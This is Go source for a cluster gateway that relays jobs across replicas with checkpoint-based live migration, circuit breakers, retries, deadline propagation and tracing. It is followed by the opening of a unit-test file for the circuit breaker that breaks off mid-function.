	reg("splitmem_gateway_breaker_trips_total", "replica circuit-breaker transitions into open", &g.breakerTrips)
	reg("splitmem_gateway_hedged_fetches_total", "checkpoint fetches that launched a hedge arm", &g.hedgedFetches)
	reg("splitmem_gateway_hedge_wins_total", "hedged fetches won by the secondary arm", &g.hedgeWins)
	reg("splitmem_gateway_hedge_losses_total", "hedged fetches won by the primary arm", &g.hedgeLosses)
	m.GaugeFunc("splitmem_gateway_hostspans_recorded_total", "host spans recorded into the gateway trace ring",
		func() float64 { return float64(g.rec.Recorded()) })
	m.GaugeFunc("splitmem_gateway_hostspans_dropped_total", "host spans evicted from the gateway trace ring",
		func() float64 { return float64(g.rec.Dropped()) })
	g.retriesVec = m.CounterVec("splitmem_gateway_retries_total",
		"gateway retry/shed events by reason", "reason")
	g.breakerVec = m.CounterVec("splitmem_gateway_breaker_transitions_total",
		"replica circuit-breaker state transitions", "transition")
	g.probeRTT = m.Histogram("splitmem_gateway_probe_rtt_us",
		"health-probe round trip in microseconds", probeRTTBuckets)
	g.migrationMs = m.Histogram("splitmem_gateway_migration_ms",
		"live-migration hop wall time in milliseconds", wallMsBuckets)
	g.metrics = m
}

// noteBreakerTransition records one replica breaker state change: the
// labeled transition counter, the trips total, and an incident-timeline
// span instant — a breaker storm must be as diagnosable as a shed storm.
func (g *Gateway) noteBreakerTransition(r *Replica, from, to breakerState) {
	g.metricsMu.Lock()
	g.breakerVec.Add(from.String()+"-"+to.String(), 1)
	g.metricsMu.Unlock()
	if to == breakerOpen {
		g.breakerTrips.Add(1)
	}
	g.rec.Instant("", "gw.breaker",
		"replica", r.Label, "from", from.String(), "to", to.String())
}

// noteRetryReason bumps the per-reason retry counter (satellite of the
// healthz-visible total: the reason dimension is what makes a shed storm
// diagnosable).
func (g *Gateway) noteRetryReason(reason string) {
	g.metricsMu.Lock()
	g.retriesVec.Add(reason, 1)
	g.metricsMu.Unlock()
}

// observeProbeRTT records one successful probe's round trip.
func (g *Gateway) observeProbeRTT(d time.Duration) {
	g.metricsMu.Lock()
	g.probeRTT.Observe(uint64(d.Microseconds()))
	g.metricsMu.Unlock()
}

// observeMigration records one completed migration hop's wall time.
func (g *Gateway) observeMigration(d time.Duration) {
	g.metricsMu.Lock()
	g.migrationMs.Observe(uint64(d.Milliseconds()))
	g.metricsMu.Unlock()
}

// observeJobWall records a job's end-to-end wall latency under its
// outcome-specific histogram (lazily registered; Registry.Histogram is
// idempotent per name, and outcomes are a small closed set).
func (g *Gateway) observeJobWall(outcome string, d time.Duration) {
	if outcome == "" {
		outcome = "unknown"
	}
	name := "splitmem_gateway_job_wall_ms_" + strings.ReplaceAll(outcome, "-", "_")
	g.metricsMu.Lock()
	g.metrics.Histogram(name, "end-to-end job wall milliseconds, outcome "+outcome, wallMsBuckets).
		Observe(uint64(d.Milliseconds()))
	g.metricsMu.Unlock()
}

// handleTraces serves GET /v1/traces/{id}: the gateway's own spans for the
// trace merged with every replica's (each replica keeps its half of a
// migrated job's timeline). ?format=chrome renders the merged set as one
// Chrome trace_event file — a migrated job appears as a single causal
// track hopping across process lanes.
func (g *Gateway) handleTraces(w http.ResponseWriter, r *http.Request) {
	if r.Method != http.MethodGet {
		httpError(w, http.StatusMethodNotAllowed, "method-not-allowed", "GET /v1/traces/{id}")
		return
	}
	if g.rec == nil {
		httpError(w, http.StatusNotFound, "tracing-disabled", "host-span tracing is disabled on this gateway")
		return
	}
	id := strings.TrimPrefix(r.URL.Path, "/v1/traces/")
	if id == "" || strings.Contains(id, "/") {
		httpError(w, http.StatusBadRequest, "bad-request", "expected /v1/traces/{id}")
		return
	}
	spans := g.rec.SpansFor(id)
	for _, rep := range g.replicas {
		spans = append(spans, g.fetchReplicaTrace(rep, id)...)
	}
	if r.URL.Query().Get("format") == "chrome" {
		w.Header().Set("Content-Type", "application/json")
		hostspan.WriteTraceEvents(w, spans)
		return
	}
	w.Header().Set("Content-Type", "application/json")
	hostspan.NewTraceDoc(id, spans).WriteJSON(w)
}

// fetchReplicaTrace pulls one replica's spans for a trace; a dead or
// tracing-disabled replica simply contributes nothing.
func (g *Gateway) fetchReplicaTrace(rep *Replica, id string) []hostspan.Span {
	ctx, cancel := context.WithTimeout(context.Background(), g.cfg.ProbeTimeout)
	defer cancel()
	req, err := http.NewRequestWithContext(ctx, http.MethodGet, rep.URL+"/v1/traces/"+id, nil)
	if err != nil {
		return nil
	}
	resp, err := g.client.Do(req)
	if err != nil {
		return nil
	}
	defer resp.Body.Close()
	if resp.StatusCode != http.StatusOK {
		io.Copy(io.Discard, resp.Body)
		return nil
	}
	var doc hostspan.TraceDoc
	if err := json.NewDecoder(resp.Body).Decode(&doc); err != nil {
		return nil
	}
	return doc.Spans
}

// Handler returns the gateway's HTTP handler.
func (g *Gateway) Handler() http.Handler { return g.mux }

// InstanceID returns the gateway's own process identity (part of every
// migration key, so two gateway incarnations can never collide on one).
func (g *Gateway) InstanceID() string { return g.instanceID }

// Replicas returns the gateway's replica views (for tests and the CLI).
func (g *Gateway) Replicas() []*Replica { return g.replicas }

// Migrations reports completed checkpoint-based live migrations.
func (g *Gateway) Migrations() uint64 { return g.migrations.Load() }

// ScratchResumes reports migrations that re-ran from scratch (replica died
// before any checkpoint; determinism + cursor dedupe keep the stream
// seamless).
func (g *Gateway) ScratchResumes() uint64 { return g.scratchResume.Load() }

// CorruptFetches reports checkpoint transfers the CRC gate rejected.
func (g *Gateway) CorruptFetches() uint64 { return g.corruptFetch.Load() }

// OwnerIndex reports which replica (as an index into Replicas) currently
// runs the given gateway job, or -1 if the job is unknown, queued, or
// between hops. Harness tooling uses it to aim faults at a job's host.
func (g *Gateway) OwnerIndex(jobID uint64) int {
	g.jobsMu.Lock()
	j := g.jobs[jobID]
	g.jobsMu.Unlock()
	if j == nil {
		return -1
	}
	rep, upstream := j.owner()
	if rep == nil || upstream == 0 {
		return -1
	}
	for i, r := range g.replicas {
		if r == rep {
			return i
		}
	}
	return -1
}

// Close stops the prober. In-flight relays are not interrupted.
func (g *Gateway) Close() {
	g.probeCancel()
	g.probeWG.Wait()
}

// --- job state -------------------------------------------------------------

// gwJob is the gateway's record of one client job across replica hops.
type gwJob struct {
	id    uint64
	name  string
	body  []byte
	trace string // host-span trace ID, propagated to every replica hop

	// deadline is the client's propagated absolute deadline (zero = none).
	// Checked before every relay attempt, caps every retry sleep, and is
	// forwarded to replicas in the X-Splitmem-Deadline header.
	deadline time.Time

	mu         sync.Mutex
	replica    *Replica // current owner (nil between hops)
	upstreamID uint64   // job ID on the current replica
	cursor     int      // event lines relayed to the client so far
	acked      bool     // accepted line sent to the client
	hops       int      // migration hops (keys the per-hop idempotency token)

	// The hop before the current one: its export ring may still hold an
	// older (but valid) checkpoint, which the hedged fetch races against
	// the current owner's when the job migrates again.
	prevReplica  *Replica
	prevUpstream uint64

	outcome string // terminal outcome class, set by the relay loop
}

func (j *gwJob) owner() (*Replica, uint64) {
	j.mu.Lock()
	defer j.mu.Unlock()
	return j.replica, j.upstreamID
}

func (j *gwJob) setOwner(r *Replica, upstreamID uint64) {
	j.mu.Lock()
	j.replica = r
	j.upstreamID = upstreamID
	j.mu.Unlock()
}

// clearOwner detaches the job between hops, archiving the outgoing owner
// as the previous hop (hedge material for the NEXT migration) when it had
// an admitted upstream job.
func (j *gwJob) clearOwner() {
	j.mu.Lock()
	if j.replica != nil && j.upstreamID != 0 {
		j.prevReplica = j.replica
		j.prevUpstream = j.upstreamID
	}
	j.replica = nil
	j.upstreamID = 0
	j.mu.Unlock()
}

// prevOwner returns the hop-before-last's replica and upstream job ID.
func (j *gwJob) prevOwner() (*Replica, uint64) {
	j.mu.Lock()
	defer j.mu.Unlock()
	return j.prevReplica, j.prevUpstream
}

func (g *Gateway) trackJob(j *gwJob) {
	g.jobsMu.Lock()
	g.jobs[j.id] = j
	g.jobsMu.Unlock()
}

func (g *Gateway) untrackJob(j *gwJob) {
	g.jobsMu.Lock()
	delete(g.jobs, j.id)
	g.jobsMu.Unlock()
}

// jobsOn snapshots the gateway jobs currently owned by a replica.
func (g *Gateway) jobsOn(r *Replica) []*gwJob {
	g.jobsMu.Lock()
	defer g.jobsMu.Unlock()
	var out []*gwJob
	for _, j := range g.jobs {
		if rep, _ := j.owner(); rep == r {
			out = append(out, j)
		}
	}
	return out
}

// --- admission & routing ---------------------------------------------------

// pickReplica chooses the next replica for a job: its consistent-hash walk
// order, Up replicas first, Degraded as fallback, skipping the one replica
// the caller wants to avoid (the one that just failed or is draining) and
// any replica whose circuit breaker is open — the job sheds to the next
// replica on its ring walk instead of feeding a known-bad host.
func (g *Gateway) pickReplica(j *gwJob, avoid *Replica) *Replica {
	order := g.ring.walk(j.id)
	var degraded *Replica
	for _, idx := range order {
		r := g.replicas[idx]
		if r == avoid || !r.br.allow() {
			continue
		}
		switch r.State() {
		case StateUp:
			return r
		case StateDegraded:
			if degraded == nil {
				degraded = r
			}
		}
	}
	return degraded
}

func httpError(w http.ResponseWriter, status int, kind, msg string) {
	w.Header().Set("Content-Type", "application/json")
	w.WriteHeader(status)
	json.NewEncoder(w).Encode(map[string]any{"error": kind, "message": msg})
}

func (g *Gateway) handleHealthz(w http.ResponseWriter, r *http.Request) {
	views := make([]snapshotView, len(g.replicas))
	available := 0
	for i, rep := range g.replicas {
		views[i] = rep.view()
		if s := rep.State(); s == StateUp || s == StateDegraded {
			available++
		}
	}
	status := "ok"
	code := http.StatusOK
	if available == 0 {
		status = "no-replicas"
		code = http.StatusServiceUnavailable
	}
	w.Header().Set("Content-Type", "application/json")
	w.WriteHeader(code)
	json.NewEncoder(w).Encode(map[string]any{
		"status":         status,
		"instance":       g.instanceID,
		"build":          hostspan.Build(),
		"uptime_seconds": time.Since(g.startTime).Seconds(),
		"replicas":       views,
		"jobs": map[string]any{
			"accepted":          g.accepted.Load(),
			"completed":         g.completed.Load(),
			"retries":           g.retries.Load(),
			"migrations":        g.migrations.Load(),
			"scratch_resumes":   g.scratchResume.Load(),
			"corrupt_fetches":   g.corruptFetch.Load(),
			"stale_exports":     g.staleExport.Load(),
			"shed":              g.shed.Load(),
			"synthesized_fails": g.synthesized.Load(),
		},
		"resilience": map[string]any{
			"deadline_exceeded": g.deadlineExceeded.Load(),
			"breaker_trips":     g.breakerTrips.Load(),
			"hedged_fetches":    g.hedgedFetches.Load(),
			"hedge_wins":        g.hedgeWins.Load(),
			"hedge_losses":      g.hedgeLosses.Load(),
		},
		"tracing": map[string]any{
			"enabled":  g.rec != nil,
			"spans":    g.rec.Len(),
			"recorded": g.rec.Recorded(),
			"dropped":  g.rec.Dropped(),
		},
		"flight_recorder": map[string]any{
			"dir":   g.cfg.FlightRecorderDir,
			"dumps": g.flightDumps.Load(),
		},
		"federation": map[string]any{
			"errors": g.federateErrs.Load(),
		},
	})
}

func wantsStream(r *http.Request) bool {
	if q := r.URL.Query().Get("stream"); q == "1" || q == "true" {
		return true
	}
	return r.Header.Get("Accept") == "application/x-ndjson"
}

// handleJobs is the client-facing submission endpoint. The gateway always
// streams from the replica; a synchronous client gets only the final
// result object (events are available on the streaming path).
func (g *Gateway) handleJobs(w http.ResponseWriter, r *http.Request) {
	if r.Method != http.MethodPost {
		httpError(w, http.StatusMethodNotAllowed, "method-not-allowed", "POST a job object")
		return
	}
	body, err := io.ReadAll(io.LimitReader(r.Body, g.cfg.MaxBodyBytes+1))
	if err != nil {
		httpError(w, http.StatusBadRequest, "bad-request", "reading body: "+err.Error())
		return
	}
	if int64(len(body)) > g.cfg.MaxBodyBytes {
		httpError(w, http.StatusRequestEntityTooLarge, "too-large",
			fmt.Sprintf("body exceeds %d bytes", g.cfg.MaxBodyBytes))
		return
	}
	var peek struct {
		Name string `json:"name"`
	}
	json.Unmarshal(body, &peek) // best-effort; replicas do the real validation

	// End-to-end deadline propagation: parse the client's absolute
	// deadline up front so an already-hopeless job is rejected before any
	// replica sees it, and every later hop inherits the same budget.
	deadline, err := serve.ParseDeadline(r.Header)
	if err != nil {
		httpError(w, http.StatusBadRequest, "bad-deadline", err.Error())
		return
	}
	if !deadline.IsZero() && !time.Now().Before(deadline) {
		g.deadlineExceeded.Add(1)
		httpError(w, http.StatusGatewayTimeout, "deadline-exceeded",
			"propagated deadline already expired on arrival")
		return
	}

	// Mint the job's trace identity (honoring one an upstream proxy already
	// minted) before the job is tracked, so every later reader — migrateOff
	// included — sees it. Echoed on the response header.
	trace := r.Header.Get(hostspan.TraceHeader)
	if trace == "" && g.rec != nil {
		trace = hostspan.NewTraceID()
	}
	if trace != "" {
		w.Header().Set(hostspan.TraceHeader, trace)
	}

	j := &gwJob{id: g.nextID.Add(1), name: peek.Name, body: body, trace: trace, deadline: deadline}
	g.trackJob(j)
	defer g.untrackJob(j)

	g.rec.Instant(trace, "gw.admit",
		"job", strconv.FormatUint(j.id, 10), "name", peek.Name)
	root := g.rec.Begin(trace, "gw.job", "job", strconv.FormatUint(j.id, 10))
	start := time.Now()

	out := newClientStream(w, wantsStream(r))
	g.runJob(r.Context(), j, out)
	out.finish()

	wall := time.Since(start)
	g.rec.End(root, "outcome", j.outcome, "hops", strconv.Itoa(j.hops))
	g.rec.Instant(trace, "gw.result",
		"job", strconv.FormatUint(j.id, 10), "outcome", j.outcome)
	g.observeJobWall(j.outcome, wall)
}

// --- the relay loop --------------------------------------------------------

// relayOutcome is what one replica attempt produced.
type relayOutcome int

const (
	relayDone      relayOutcome = iota // result delivered (or terminal client error sent)
	relayMigrated                      // replica emitted the migrated frame; resume elsewhere
	relayRejected                      // explicitly not admitted (429/503); retry elsewhere
	relayBroken                        // stream died after the accepted line; recover via checkpoint
	relayDuplicate                     // resume key already claimed (409); reclaim via detach
	relayUnknown                       // transport died before any line: admission unknown —
	//                                    retry the SAME key on the SAME replica; the per-key
	//                                    409 disambiguates (this is why every gateway
	//                                    submission carries a key, hop 0 included)
)

// String names the outcome for span attributes and retry-reason labels.
func (o relayOutcome) String() string {
	switch o {
	case relayDone:
		return "done"
	case relayMigrated:
		return "migrated"
	case relayRejected:
		return "rejected"
	case relayBroken:
		return "broken-stream"
	case relayDuplicate:
		return "duplicate-resume"
	case relayUnknown:
		return "unknown-admission"
	}
	return fmt.Sprintf("outcome(%d)", int(o))
}

// resumeSpec is the payload of the next hop when a job moves replicas.
type resumeSpec struct {
	checkpoint []byte
	cycles     uint64
}

// relayResult is everything one replica attempt reports back to the loop.
type relayResult struct {
	outcome    relayOutcome
	retryAfter time.Duration // parsed Retry-After on a 429/503
	dupID      uint64        // upstream job id from a 409 duplicate-resume
}

// runJob drives one client job to exactly one terminal outcome, hopping
// replicas as they drain or die. It owns the client stream: nothing else
// writes to out.
func (g *Gateway) runJob(ctx context.Context, j *gwJob, out *clientStream) {
	var (
		resume   *resumeSpec // checkpoint payload; nil on hop 0 (fresh run)
		avoid    *Replica    // replica that just failed or drained
		forceRep *Replica    // ambiguous attempt: must go back to this replica
		backoff  = g.cfg.RetryBackoff
		migSpan  hostspan.SpanID // open gw.migrate span while the job is between hops
		migStart time.Time
	)
	// beginMigration opens the between-hops span when a job leaves a
	// replica; it stays open until the next relay attempt starts, so its
	// duration is the real client-visible migration gap.
	beginMigration := func(from *Replica, kind string) {
		if migSpan.Valid() {
			return
		}
		migStart = time.Now()
		migSpan = g.rec.Begin(j.trace, "gw.migrate", "from", from.Label, "kind", kind)
	}
	for attempt := 0; attempt < g.cfg.RetryBudget; attempt++ {
		if ctx.Err() != nil {
			g.rec.End(migSpan, "to", "", "failed", "client-gone")
			g.failJob(j, out, "canceled", "client disconnected")
			return
		}
		if !j.deadline.IsZero() && !time.Now().Before(j.deadline) {
			g.deadlineExceeded.Add(1)
			g.rec.End(migSpan, "failed", "deadline-exceeded")
			g.failJobStatus(j, out, http.StatusGatewayTimeout, "deadline-exceeded",
				"propagated deadline expired at the gateway")
			return
		}
		rep := forceRep
		forceRep = nil
		if rep == nil {
			rep = g.pickReplica(j, avoid)
		}
		if rep == nil {
			// No routable replica right now. Before acknowledgment that is
			// the client's 503; after, patience — a restart is usually
			// seconds away.
			if !j.acked {
				g.shed.Add(1)
				g.noteRetryReason("no-replica")
				j.outcome = "shed"
				out.reject(http.StatusServiceUnavailable, "no-replicas", "no replica available; retry later")
				return
			}
			g.retries.Add(1)
			g.noteRetryReason("no-replica")
			g.rec.Instant(j.trace, "gw.shed-retry",
				"reason", "no-replica", "wait", backoff.String())
			g.sleep(ctx, g.retryWait(j, backoff))
			backoff = g.bumpBackoff(backoff)
			avoid = nil // a drained home replica may be back by now
			continue
		}

		if migSpan.Valid() {
			g.rec.End(migSpan, "to", rep.Label)
			migSpan = hostspan.SpanID{}
			g.observeMigration(time.Since(migStart))
		}
		g.rec.Instant(j.trace, "gw.route",
			"replica", rep.Label, "attempt", strconv.Itoa(attempt), "hop", strconv.Itoa(j.hops))
		relSpan := g.rec.Begin(j.trace, "gw.relay",
			"replica", rep.Label, "attempt", strconv.Itoa(attempt))
		rr := g.relayOnce(ctx, j, rep, resume, out)
		g.rec.End(relSpan, "outcome", rr.outcome.String())
		// Feed the replica's circuit breaker. Done and migrated prove the
		// data path; broken streams and unknown admissions are transport
		// failures. An explicit rejection (429/503) or duplicate 409 is a
		// healthy replica talking — neither success nor failure.
		switch rr.outcome {
		case relayDone, relayMigrated:
			rep.br.noteSuccess()
		case relayBroken, relayUnknown:
			rep.br.noteFailure()
		}
		switch rr.outcome {
		case relayDone:
			return

		case relayMigrated:
			// The replica stopped the job with its typed migrated frame
			// (detached by migrateOff when the replica began draining). Fetch
			// the checkpoint from its bounded export ring — CRC-gated,
			// corruption means refetch — and resume on a peer.
			beginMigration(rep, "drain")
			resume = g.fetchCheckpoint(rep, j)
			avoid = rep
			j.clearOwner()
			j.hops++
			// A migration hop is recovery, not failure: it does not consume
			// the retry budget.
			attempt--

		case relayRejected:
			g.retries.Add(1)
			g.noteRetryReason("rejected")
			wait := backoff
			if rr.retryAfter > wait {
				wait = rr.retryAfter
			}
			if wait > g.cfg.MaxRetryDelay {
				wait = g.cfg.MaxRetryDelay
			}
			g.rec.Instant(j.trace, "gw.shed-retry",
				"reason", "rejected", "replica", rep.Label, "wait", wait.String())
			g.sleep(ctx, g.retryWait(j, wait))
			backoff = g.bumpBackoff(backoff)
			avoid = rep

		case relayBroken:
			// The stream died after acceptance — replica crash (or kill).
			// Feed the failure detector, then try to salvage the latest
			// checkpoint; a dead process yields nothing and the job re-runs
			// from scratch, cursor-deduped.
			g.noteRetryReason("broken-stream")
			beginMigration(rep, "crash")
			g.noteStreamFailureOn(rep)
			resume = g.fetchCheckpoint(rep, j)
			avoid = rep
			j.clearOwner()
			j.hops++

		case relayUnknown:
			// The attempt died before any response line — we do not know
			// whether the replica admitted it. Go back to the SAME replica
			// with the SAME key: 409 means an orphan is running there
			// (reclaimed via relayDuplicate next round); admission means it
			// never happened and the retry is just a fresh run. Only when
			// the prober has declared the replica dead do we move on — the
			// orphan, if any, died with its process.
			g.retries.Add(1)
			g.noteRetryReason("unknown-admission")
			if rep.State() == StateDown {
				beginMigration(rep, "dead")
				resume = g.fetchCheckpoint(rep, j)
				avoid = rep
				j.clearOwner()
				j.hops++
			} else {
				g.rec.Instant(j.trace, "gw.shed-retry",
					"reason", "unknown-admission", "replica", rep.Label, "wait", backoff.String())
				forceRep = rep
				g.sleep(ctx, g.retryWait(j, backoff))
				backoff = g.bumpBackoff(backoff)
			}

		case relayDuplicate:
			// Our own earlier resume was admitted but we lost its stream
			// before reading the accepted line. The job is running there,
			// orphaned (its events are going nowhere). Reclaim it: detach —
			// stops it with the migrated frame, exports its checkpoint — and
			// resume on the next hop with a fresh key. Exactly-once holds:
			// the orphan never streamed a line to anyone.
			g.noteRetryReason("duplicate-resume")
			beginMigration(rep, "reclaim")
			if spec, ok := g.detachUpstream(rep, rr.dupID, j); ok {
				resume = spec
			} else {
				resume = &resumeSpec{}
			}
			avoid = rep
			j.clearOwner()
			j.hops++
			attempt--
		}
	}
	g.rec.End(migSpan, "failed", "retry-budget-exhausted")
	g.failJob(j, out, "failed-after-retries", "replica retry budget exhausted")
}

// failJob delivers the synthesized terminal outcome when the gateway runs
// out of options. An unacknowledged job gets an HTTP error; an
// acknowledged one gets a synthesized result line, because the framing
// contract (exactly one result per accepted) outranks everything.
func (g *Gateway) failJob(j *gwJob, out *clientStream, reason, msg string) {
	g.failJobStatus(j, out, http.StatusServiceUnavailable, reason, msg)
}

// failJobStatus is failJob with an explicit HTTP status for the
// not-yet-acknowledged case (a deadline failure is the client's 504, not
// a 503 inviting a retry that cannot succeed).
func (g *Gateway) failJobStatus(j *gwJob, out *clientStream, status int, reason, msg string) {
	j.outcome = reason
	if !j.acked {
		out.reject(status, reason, msg)
		return
	}
	if reason == "failed-after-retries" {
		// An acked job the cluster could not finish is the flight
		// recorder's marquee customer: dump the evidence before the
		// synthesized result papers over it.
		g.flightRecord("job-failed", map[string]any{
			"job":    j.id,
			"trace":  j.trace,
			"reason": reason,
			"detail": msg,
			"hops":   j.hops,
		})
	}
	g.synthesized.Add(1)
	res := &serve.JobResult{ID: j.id, Name: j.name, Reason: reason, Canceled: true,
		TimedOut: reason == "deadline-exceeded", Error: msg}
	out.result(res)
	g.completed.Add(1)
}

// retryWait shapes one retry sleep: equal jitter in [d/2, d) decorrelates
// the fleet's backoff, and the job's propagated deadline caps the wait —
// sleeping past the deadline would only delay the client's 504.
func (g *Gateway) retryWait(j *gwJob, d time.Duration) time.Duration {
	d = g.jitter.Scale(d)
	if !j.deadline.IsZero() {
		if rem := time.Until(j.deadline); rem < d {
			d = rem
		}
	}
	if d < 0 {
		d = 0
	}
	return d
}

func (g *Gateway) sleep(ctx context.Context, d time.Duration) {
	t := time.NewTimer(d)
	defer t.Stop()
	select {
	case <-t.C:
	case <-ctx.Done():
	}
}

func (g *Gateway) bumpBackoff(d time.Duration) time.Duration {
	d *= 2
	if d > g.cfg.MaxRetryDelay {
		d = g.cfg.MaxRetryDelay
	}
	return d
}

// resumeKey builds the per-hop idempotency token: gateway identity + job +
// hop, so a retried POST of the same hop collides (409) and a new hop
// never does.
func (j *gwJob) resumeKey(gatewayID string) string {
	return fmt.Sprintf("%s-%d-m%d", gatewayID, j.id, j.hops)
}

// relayOnce runs one replica attempt: submit (or resume), then relay the
// NDJSON stream to the client until a terminal frame or a transport error.
func (g *Gateway) relayOnce(ctx context.Context, j *gwJob, rep *Replica, resume *resumeSpec, out *clientStream) relayResult {
	// Every attempt — hop 0 included — goes through the keyed resume path.
	// A resume with no checkpoint and cursor 0 is exactly a fresh run, and
	// carrying the key from the first byte means a POST that dies before
	// any response line is never ambiguous: retry the same key and the
	// replica's per-key 409 answers "was it admitted?".
	spec := resume
	if spec == nil {
		spec = &resumeSpec{}
	}
	reqObj := map[string]any{
		"job":    json.RawMessage(j.body),
		"cursor": j.cursor,
		"key":    j.resumeKey(g.instanceID),
	}
	if len(spec.checkpoint) > 0 {
		reqObj["checkpoint"] = spec.checkpoint
		reqObj["cycles"] = spec.cycles
	}
	body, err := json.Marshal(reqObj)
	if err != nil {
		return relayResult{outcome: relayRejected}
	}
	url := rep.URL + "/v1/jobs/resume?stream=1"

	req, err := http.NewRequestWithContext(ctx, http.MethodPost, url, bytes.NewReader(body))
	if err != nil {
		return relayResult{outcome: relayRejected}
	}
	req.Header.Set("Content-Type", "application/json")
	if j.trace != "" {
		req.Header.Set(hostspan.TraceHeader, j.trace)
	}
	if !j.deadline.IsZero() {
		req.Header.Set(serve.DeadlineHeader, strconv.FormatInt(j.deadline.UnixMilli(), 10))
	}
	resp, err := g.client.Do(req)
	if err != nil {
		// The transport died before we read a status line. The request may
		// or may not have been admitted — relayUnknown makes runJob go back
		// to the same replica with the same key to find out.
		g.noteStreamFailureOn(rep)
		return relayResult{outcome: relayUnknown}
	}
	defer resp.Body.Close()

	switch resp.StatusCode {
	case http.StatusOK:
		// fall through to the stream relay
	case http.StatusGatewayTimeout:
		// The replica's own deadline gate fired (the budget expired while
		// the request was in flight). Terminal: no replica can beat it.
		b, _ := io.ReadAll(resp.Body)
		g.deadlineExceeded.Add(1)
		if !j.acked {
			j.outcome = "deadline-exceeded"
			out.forwardError(resp.StatusCode, b)
			return relayResult{outcome: relayDone}
		}
		g.failJobStatus(j, out, http.StatusGatewayTimeout, "deadline-exceeded",
			"replica rejected the hop: propagated deadline expired")
		return relayResult{outcome: relayDone}
	case http.StatusTooManyRequests, http.StatusServiceUnavailable:
		io.Copy(io.Discard, resp.Body)
		ra, _ := strconv.Atoi(resp.Header.Get("Retry-After"))
		return relayResult{outcome: relayRejected, retryAfter: time.Duration(ra) * time.Second}
	case http.StatusConflict:
		// duplicate-resume: our key is claimed — an earlier attempt of this
		// very hop was admitted. Extract the upstream id so runJob can
		// reclaim the orphan.
		var e struct {
			Error string `json:"error"`
			ID    uint64 `json:"id"`
		}
		json.NewDecoder(resp.Body).Decode(&e)
		if e.Error == "duplicate-resume" {
			return relayResult{outcome: relayDuplicate, dupID: e.ID}
		}
		return relayResult{outcome: relayRejected}
	case http.StatusBadRequest:
		// A checkpoint the replica's CRC gate rejected (it re-verifies what
		// we verified — defense in depth) is recoverable: drop the image and
		// re-run from scratch. Anything else is the client's own bad job —
		// forward it verbatim before acknowledgment, synthesize after.
		b, _ := io.ReadAll(resp.Body)
		var e struct {
			Error string `json:"error"`
		}
		json.Unmarshal(b, &e)
		if e.Error == "bad-checkpoint" {
			// The replica's own CRC gate rejected the image we shipped —
			// corruption after our verify (or a verify bug). Forensics-grade
			// event: dump it.
			g.corruptFetch.Add(1)
			g.noteRetryReason("bad-checkpoint")
			g.flightRecord("checkpoint-crc-mismatch", map[string]any{
				"stage":      "resume",
				"replica":    rep.URL,
				"label":      rep.Label,
				"job":        j.id,
				"trace":      j.trace,
				"checkpoint": fmt.Sprintf("job %d hop %d (%d bytes, %d cycles)", j.id, j.hops, len(spec.checkpoint), spec.cycles),
			})
			return relayResult{outcome: relayBroken}
		}
		if !j.acked {
			j.outcome = "client-error"
			out.forwardError(resp.StatusCode, b)
			return relayResult{outcome: relayDone}
		}
		g.failJob(j, out, "failed-after-retries", "replica rejected resume: "+string(bytes.TrimSpace(b)))
		return relayResult{outcome: relayDone}
	default:
		b, _ := io.ReadAll(resp.Body)
		if !j.acked {
			j.outcome = "client-error"
			out.forwardError(resp.StatusCode, b)
			return relayResult{outcome: relayDone}
		}
		return relayResult{outcome: relayRejected}
	}

	j.setOwner(rep, 0)
	sc := bufio.NewScanner(resp.Body)
	sc.Buffer(make([]byte, 0, 64<<10), 8<<20)
	sawLine := false
	for sc.Scan() {
		line := bytes.TrimSpace(sc.Bytes())
		if len(line) == 0 {
			continue
		}
		sawLine = true
		var frame struct {
			Type   string           `json:"type"`
			ID     uint64           `json:"id"`
			Result *serve.JobResult `json:"result"`
		}
		if err := json.Unmarshal(line, &frame); err != nil {
			continue // never let a mangled frame kill an owned stream
		}
		switch frame.Type {
		case "accepted":
			j.setOwner(rep, frame.ID)
			if j.hops > 0 {
				// The resumed stream is live on the new replica: from here
				// the cursor-deduped relay stitches it seamlessly onto what
				// the client already saw.
				g.rec.Instant(j.trace, "gw.stitch",
					"replica", rep.Label,
					"upstream", strconv.FormatUint(frame.ID, 10),
					"cursor", strconv.Itoa(j.cursor))
			}
			if !j.acked {
				j.acked = true
				g.accepted.Add(1)
				out.accepted(j.id, j.name)
			}
		case "event":
			out.event(line)
			j.cursor++
		case "result":
			if frame.Result != nil && frame.Result.Reason == "migrated" {
				return relayResult{outcome: relayMigrated}
			}
			if frame.Result == nil {
				frame.Result = &serve.JobResult{Reason: "internal-error", Error: "replica result frame had no body"}
			}
			frame.Result.ID = j.id
			// The gateway owns the Migrated flag: replicas mark every keyed
			// resume migrated, but hop 0 is just a fresh run in disguise.
			frame.Result.Migrated = j.hops > 0
			if j.hops > 0 {
				g.migrations.Add(1)
				if resume == nil || len(resume.checkpoint) == 0 {
					g.scratchResume.Add(1)
				}
			}
			j.outcome = "done"
			out.result(frame.Result)
			g.completed.Add(1)
			return relayResult{outcome: relayDone}
		}
	}
	// Stream ended without a result: the replica died mid-job (or dropped
	// the connection). If nothing was ever read the admission itself is
	// unknown — retry the same key on the same replica and let the 409
	// disambiguate. After the accepted line it is a plain crash: recover.
	if !sawLine {
		g.noteStreamFailureOn(rep)
		return relayResult{outcome: relayUnknown}
	}
	return relayResult{outcome: relayBroken}
}
