package cluster

// Unit tests for the resilience machinery this package layers under the
// relay loop: the per-replica circuit breaker's state machine, the flight
// recorder's disk-cap rotation, retry jitter spread, the hedged checkpoint
// fetch, and the job-identity gate that rejects stale exports from a
// restarted replica.

import (
	"encoding/json"
	"fmt"
	"net/http"
	"net/http/httptest"
	"os"
	"path/filepath"
	"testing"
	"time"

	"splitmem"
	"splitmem/internal/chaos"
	"splitmem/internal/serve"
)

// TestBreakerStateMachine walks the three-state machine through every
// documented transition: threshold trip, the two paths out of open (lazy
// cooldown and probe success), the half-open trial, and the trip-refresh
// that keeps a still-failing replica from half-opening on the clock alone.
func TestBreakerStateMachine(t *testing.T) {
	var transitions []string
	br := newBreaker(3, 300*time.Millisecond, func(from, to breakerState) {
		transitions = append(transitions, fmt.Sprintf("%s->%s", from, to))
	})

	// Closed: failures below the threshold stay closed; a success resets
	// the count so stale failures never accumulate into a trip.
	br.noteFailure()
	br.noteFailure()
	br.noteProbeSuccess()
	br.noteFailure()
	br.noteFailure()
	if got := br.current(); got != breakerClosed {
		t.Fatalf("below threshold: state %v, want closed", got)
	}
	br.noteFailure() // third consecutive: trip
	if got := br.current(); got != breakerOpen {
		t.Fatalf("at threshold: state %v, want open", got)
	}
	if br.allow() {
		t.Fatal("open breaker allowed traffic before the cooldown")
	}

	// Open: failures refresh the trip time, so the cooldown clock restarts
